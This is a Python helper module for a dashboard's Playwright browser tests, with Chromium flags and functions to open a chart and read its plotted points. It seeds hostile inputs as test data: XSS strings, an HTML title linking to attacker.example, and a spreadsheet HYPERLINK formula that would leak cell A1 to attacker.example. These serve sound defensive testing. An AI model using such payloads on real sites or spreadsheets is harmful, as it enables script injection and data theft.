"""What the dashboard's browser tests share: Chromium's flags, the seeded oddities, and ways to
open a chart and read what it drew."""

from __future__ import annotations

from typing import Any

import httpx
import pytest

from dashboard.packing import unpack

CHROMIUM = "/usr/bin/chromium"
FLAGS = [
    "--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking",
    "--disable-component-update", "--no-first-run", "--disable-sync",
]  # fmt: skip
XSS = ["<script>alert('xss')</script> terrible service", "<img src=x onerror=alert(2)> so bad"]
# A statement whose title is markup: shown as text wherever the page shows titles.
HTML_TITLE = '<a href="https://attacker.example/">Click</a> <b style="color:red">now</b>'
# A text a spreadsheet would run as a formula, were it written as it is.
FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1, "click me") worst airline'

WEEK = {"entity": "northwind-air", "freq": "week", "since": "2025-06-02", "until": "2025-08-31"}

sync_api = pytest.importorskip("playwright.sync_api", reason="Playwright for Python is missing")


def open_chart(page: Any, site: str, **params: str) -> None:
    query = "&".join(f"{k}={v}" for k, v in params.items())
    page.goto(f"{site}/?{query}")
    page.wait_for_function("document.getElementById('chart').dataset.points !== undefined")


def trace_points(page: Any) -> dict[str, int]:
    return page.evaluate(
        """() => Object.fromEntries(document.getElementById('chart').data
            .filter(t => t.meta && t.meta.role === 'voice').map(t => [t.meta.voice, t.x.length]))"""
    )


def figure_body(site: str, **params: str) -> dict[str, Any]:
    body: dict[str, Any] = httpx.get(f"{site}/dashboard/figure", params=params, timeout=30).json()
    return body


def expected_periods(site: str, **params: str) -> list[str]:
    """The period labels: the x of the voice lines the server packed."""
    figure = unpack(figure_body(site, **params)["figure"])
    periods: list[str] = next(t["x"] for t in figure["data"] if t["meta"]["role"] == "voice")
    return periods


def period_value(page: Any, label: str) -> str:
    """The "Open period" option of the period labelled ``label``."""
    return str(page.evaluate("(label) => current.periods.indexOf(label)", label))
